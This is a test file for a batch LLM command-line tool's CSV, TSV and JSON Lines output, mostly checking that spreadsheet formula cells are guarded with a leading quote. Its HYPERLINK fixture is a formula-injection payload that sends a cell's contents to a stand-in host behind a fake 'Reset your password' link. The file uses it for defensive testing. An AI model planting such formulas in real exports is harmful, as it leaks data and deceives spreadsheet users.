import { execFileSync } from "node:child_process";
import { appendFileSync, createReadStream, existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { readCsv } from "../../src/io/csv-reader.js";
import { jsonl, jsonLines, runCli, tempDir, useSimulator } from "../helpers/cli.js";

const KEY = "sk-outputs-right-key";
const simulator = useSimulator({ apiKey: KEY }, KEY);

/** A helpdesk export as a spreadsheet saves it: phone numbers, a formula, bullets, a tab, emoji. */
const FIXTURE = "test/fixtures/helpdesk-export.csv";
/** The simulator answers each message with the message itself, so the output column is text we chose. */
const ECHO = ["--template", "{{message}} [[sim:echo]]"];
const HYPERLINK = '=HYPERLINK("https://billing-help.example/reset?u="&A1,"Reset your password")';
const BULLETS = "- charged twice\n- refund not received\nPlease check.";
const AT_TAB = "@support the export has\ttabs in it";

const BOM = [0xef, 0xbb, 0xbf];

/** Rows of a TSV file as Python's csv module reads them (the rules pandas' `read_csv(sep="\t")` follows too). */
function pythonTsvRows(path: string): string[][] {
  const script = "import csv, json, sys\nwith open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n    print(json.dumps(list(csv.reader(f, delimiter='\\t'))))";
  return JSON.parse(execFileSync("python3", ["-c", script, path], { encoding: "utf8" })) as string[][];
}

const hasPython = (() => {
  try {
    execFileSync("python3", ["-c", "import csv"]);
    return true;
  } catch {
    return false;
  }
})();

/** Rows as objects keyed by the header. */
function byHeader(rows: string[][]): Record<string, string>[] {
  const [header, ...body] = rows;
  return body.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i]!])));
}

async function llmbatchTsvRows(path: string): Promise<Record<string, string>[]> {
  const rows: Record<string, string>[] = [];
  for await (const item of readCsv(createReadStream(path), { delimiter: "\t", name: path })) {
    if (item.kind !== "record") throw new Error(`${path}:${item.invalid.line}: ${item.invalid.message}`);
    rows.push(item.record.vars as Record<string, string>);
  }
  return rows;
}

const sortById = <T extends Record<string, string>>(rows: T[]) => [...rows].sort((a, b) => a.id!.localeCompare(b.id!));

describe("-o out.tsv", () => {
  it.skipIf(!hasPython)("writes TSV with the CSV's columns that llmbatch's TSV reader and Python's csv read back the same", async () => {
    const dir = tempDir();
    const out = join(dir, "answers.tsv");
    const r = await runCli(["run", FIXTURE, ...ECHO, "-o", out, "--include-input", "-q"], { env: simulator.env() });
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const text = readFileSync(out, "utf8");
    expect(
      text.startsWith(
        "id\tok\toutput\tfinish_reason\terror_type\terror_message\tinput_tokens\toutput_tokens\tcached_tokens\tcost_usd\tattempts\tlatency_ms\tinput.id\tphone\tcustomer\tmessage\tbalance\r\n",
      ),
    ).toBe(true);

    const ours = sortById(await llmbatchTsvRows(out));
    const python = sortById(byHeader(pythonTsvRows(out)));
    expect(python).toEqual(ours);
    expect(ours.map((row) => [row.id, row.ok, row.output, row.phone, row.customer, row.balance])).toEqual([
      ["T-2041", "true", "Bonjour, my invoice shows the wrong VAT rate 🙁", "'+33 6 12 34 56 78", "Renée Dubois", "-42.50"],
      ["T-2042", "true", `'${HYPERLINK}`, "'+34 612 345 678", "Tomás Ortega", "0"],
      ["T-2043", "true", `'${BULLETS}`, "'+91 98765 43210", "Priya N.", "-19.99"],
      ["T-2044", "true", `'${AT_TAB}`, "'+49 151 2345 6789", "Jonas Weber", "3.5"],
      ["T-2045", "true", "Thanks, all sorted now!", "'+1 415 555 0134", "Zoë Park", "0"],
    ]);
    // The input's own column holds the same text, guarded the same way.
    expect(ours.map((row) => row.message)).toEqual(ours.map((row) => row.output));
  });

  it("--resume reads a TSV results file back: its (guarded) ids are matched, a cut-off last row is dropped, one header and one BOM", async () => {
    const dir = tempDir();
    // Phone numbers as ids: a spreadsheet would read "+44 …" as a formula, so they are written guarded.
    const ids = ["+44 20 7946 0958", "=SUM(A1)", "-NaN", "T-17", "'=quoted"];
    const input = join(dir, "callbacks.jsonl");
    appendFileSync(input, jsonl(ids.map((id, i) => ({ id, prompt: `Call back customer ${i} about the late delivery.` }))));
    const out = join(dir, "callbacks.tsv");
    const first = await runCli(["run", input, "-o", out, "--bom", "-c", "1", "-q"], { env: { ...simulator.env(), OPENAI_API_KEY: "sk-wrong-key-000000" } });
    expect(first.code).toBe(3);
    expect([...readFileSync(out).subarray(0, 3)]).toEqual(BOM);
    expect((parse(readFileSync(out, "utf8"), { delimiter: "\t", bom: true, columns: true }) as Record<string, string>[]).map((row) => row.id)).toEqual([
      "'+44 20 7946 0958",
      "'=SUM(A1)",
      "'-NaN",
      "T-17",
      "''=quoted",
    ]);
    appendFileSync(out, 'T-99\tfalse\t"a quoted cell cut\r\noff by a crash'); // a row cut in the middle of a quoted multi-line cell

    const second = await runCli(["run", input, "-o", out, "--bom", "--resume"], { env: simulator.env() });
    expect(second.code).toBe(0);
    expect(second.stderr).toContain("cut off a partial last line");
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual(BOM);
    expect(bytes.indexOf(Buffer.from(BOM), 1)).toBe(-1);
    const rows = parse(bytes.toString("utf8"), { delimiter: "\t", bom: true }) as string[][];
    expect(rows.filter((row) => row[0] === "id")).toHaveLength(1);
    expect(rows.filter((row) => row[1] === "true").map((row) => row[0])).toEqual(["'+44 20 7946 0958", "'=SUM(A1)", "'-NaN", "T-17", "''=quoted"]);

    // Every id is done: a third run sends nothing.
    simulator.sim().resetStats();
    const third = await runCli(["run", input, "-o", out, "--bom", "--resume", "--summary", join(dir, "s.json")], { env: simulator.env() });
    expect(third.code).toBe(0);
    expect(simulator.sim().stats().requests).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, "s.json"), "utf8"))).toMatchObject({ records: 0, skipped: 5 });
  });
});

describe("an output llmbatch cannot write is refused before anything is sent", () => {
  it.each([
    [
      ["-o", "answers.xlsx"],
      /-o "answers.xlsx": llmbatch cannot write \.xlsx files; it writes JSON Lines \(\.jsonl, \.ndjson, \.json\), CSV \(\.csv\) and TSV \(\.tsv\); a spreadsheet opens CSV: -o "answers.csv" \(add --bom for Excel\), or pass --output-format jsonl\|csv\|tsv/,
    ],
    [["-o", "answers.txt"], /-o "answers.txt": llmbatch cannot write \.txt files; it writes JSON Lines/],
    [["-o", "answers.csv", "--output-format", "xlsx"], /--output-format must be one of jsonl, csv, tsv, got "xlsx"/],
    [["-o", "answers.jsonl", "--bom"], /--bom is for CSV and TSV output/],
    [["--bom"], /--bom is for CSV and TSV output/],
  ])("%j", async (args, message) => {
    const dir = tempDir();
    simulator.sim().resetStats();
    const r = await runCli(["run", join(process.cwd(), FIXTURE), ...ECHO, ...args, "-q"], { env: simulator.env(), cwd: dir });
    expect(r.stderr).toMatch(message);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe("");
    expect(simulator.sim().stats().requests).toBe(0);
    // Not even a sidecar: nothing was opened.
    expect(readdirSync(dir)).toEqual([]);
  });

  it("a name without an extension is JSON Lines, as stdout is", async () => {
    const dir = tempDir();
    const r = await runCli(["run", FIXTURE, ...ECHO, "-o", join(dir, "answers"), "-q"], { env: simulator.env() });
    expect(r.code).toBe(0);
    expect(jsonLines(readFileSync(join(dir, "answers"), "utf8")).map((l) => l.id)).toHaveLength(5);
  });
});

describe("--output-format", () => {
  it("csv writes CSV to stdout, for a pipe", async () => {
    const r = await runCli(["run", FIXTURE, ...ECHO, "--output-format", "csv", "-q"], { env: simulator.env() });
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.id).sort()).toEqual(["T-2041", "T-2042", "T-2043", "T-2044", "T-2045"]);
    expect(rows.find((row) => row.id === "T-2042")!.output).toBe(`'${HYPERLINK}`);
  });

  it("tsv writes TSV whatever the -o name, and jsonl JSON Lines into a .csv name", async () => {
    const dir = tempDir();
    const txt = join(dir, "answers.txt");
    expect((await runCli(["run", FIXTURE, ...ECHO, "-o", txt, "--output-format", "tsv", "-q"], { env: simulator.env() })).code).toBe(0);
    expect((parse(readFileSync(txt, "utf8"), { delimiter: "\t", columns: true }) as unknown[]).length).toBe(5);
    const csvName = join(dir, "answers.csv");
    expect((await runCli(["run", FIXTURE, ...ECHO, "-o", csvName, "--output-format", "jsonl", "-q"], { env: simulator.env() })).code).toBe(0);
    expect(jsonLines(readFileSync(csvName, "utf8"))).toHaveLength(5);
  });
});

describe("CSV for spreadsheets", () => {
  it("guards a model's answer and input cells that start with = + - @; llmbatch's numbers and plain-number cells are left alone", async () => {
    const dir = tempDir();
    const out = join(dir, "answers.csv");
    const r = await runCli(["run", FIXTURE, ...ECHO, "-o", out, "--include-input", "-q"], { env: simulator.env() });
    expect(r.code).toBe(0);
    const rows = sortById(parse(readFileSync(out, "utf8"), { columns: true }) as Record<string, string>[]);
    expect(rows.map((row) => [row.output, row.message, row.phone, row.balance])).toEqual([
      ["Bonjour, my invoice shows the wrong VAT rate 🙁", "Bonjour, my invoice shows the wrong VAT rate 🙁", "'+33 6 12 34 56 78", "-42.50"],
      [`'${HYPERLINK}`, `'${HYPERLINK}`, "'+34 612 345 678", "0"],
      [`'${BULLETS}`, `'${BULLETS}`, "'+91 98765 43210", "-19.99"],
      [`'${AT_TAB}`, `'${AT_TAB}`, "'+49 151 2345 6789", "3.5"],
      ["Thanks, all sorted now!", "Thanks, all sorted now!", "'+1 415 555 0134", "0"],
    ]);
    for (const row of rows) {
      for (const column of ["ok", "input_tokens", "output_tokens", "cached_tokens", "cost_usd", "attempts", "latency_ms"]) expect(row[column]).toMatch(/^(true|\d[\d.e-]*)$/);
    }
    // No BOM unless asked for.
    expect(readFileSync(out)[0]).toBe("i".charCodeAt(0));
  });

  it("--no-csv-guard writes every cell as it is", async () => {
    const dir = tempDir();
    const out = join(dir, "answers.csv");
    const r = await runCli(["run", FIXTURE, ...ECHO, "-o", out, "--include-input", "--no-csv-guard", "-q"], { env: simulator.env() });
    expect(r.code).toBe(0);
    const rows = sortById(parse(readFileSync(out, "utf8"), { columns: true }) as Record<string, string>[]);
    expect(rows.map((row) => [row.output, row.phone])).toEqual([
      ["Bonjour, my invoice shows the wrong VAT rate 🙁", "+33 6 12 34 56 78"],
      [HYPERLINK, "+34 612 345 678"],
      [BULLETS, "+91 98765 43210"],
      [AT_TAB, "+49 151 2345 6789"],
      ["Thanks, all sorted now!", "+1 415 555 0134"],
    ]);
  });

  it("--bom starts the file with a UTF-8 byte-order mark, so Excel keeps accents and emoji", async () => {
    const dir = tempDir();
    const out = join(dir, "answers.csv");
    const r = await runCli(["run", FIXTURE, ...ECHO, "-o", out, "--include-input", "--bom", "-q"], { env: simulator.env() });
    expect(r.code).toBe(0);
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual(BOM);
    expect(bytes.toString("utf8").slice(1).startsWith("id,ok,output,")).toBe(true);
    const rows = parse(bytes, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((row) => row.customer).sort()).toEqual(["Jonas Weber", "Priya N.", "Renée Dubois", "Tomás Ortega", "Zoë Park"]);
    expect(existsSync(`${out}.meta.json`)).toBe(true);
  });
});
